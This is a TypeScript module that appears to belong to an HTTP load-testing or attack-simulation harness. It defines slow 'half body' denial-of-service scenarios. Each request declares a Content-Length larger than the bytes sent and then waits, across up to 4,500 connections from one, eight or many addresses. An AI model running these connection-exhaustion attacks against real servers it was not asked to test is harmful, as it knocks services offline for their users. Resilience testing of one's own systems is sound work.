import type { Socket } from "node:net";
import { type Attack, type AttackTarget, reading, requestOf } from "./attack.ts";
import { SALE, saleHead } from "./sale-head.ts";

/** The largest half body of these attacks. */
const MOST_BYTES = 150 * 1024;
const BYTES = Buffer.alloc(MOST_BYTES, "a");

/** The sizes of half bodies in KiB, and on how many connections each size is sent. */
const SIZES = [
  { kib: 8, connections: 4_500 },
  { kib: 19, connections: 1_000 },
  { kib: 150, connections: 1_000 },
] as const;

/** Half bodies of middle sizes, from one address, from some, and from as many as there are connections. */
export const SPREAD_ATTACKS: readonly Attack[] = SIZES.flatMap(({ kib, connections }) =>
  [
    { from: "one", addresses: 1 },
    { from: "eight", addresses: 8 },
    { from: "everywhere", addresses: connections },
  ].map(({ from, addresses }) => ({
    name: `half-bodies-${kib}k-from-${from}`,
    about: `sends ${kib} KiB of a body and waits, from ${addresses} addresses`,
    connections,
    addresses,
    live(socket: Socket, target: AttackTarget) {
      reading(socket);
      socket.write(requestOf(SALE, saleHead(target, { "Content-Length": kib * 1024 + 1 }), BYTES.subarray(0, kib * 1024)));
    },
  })),
);
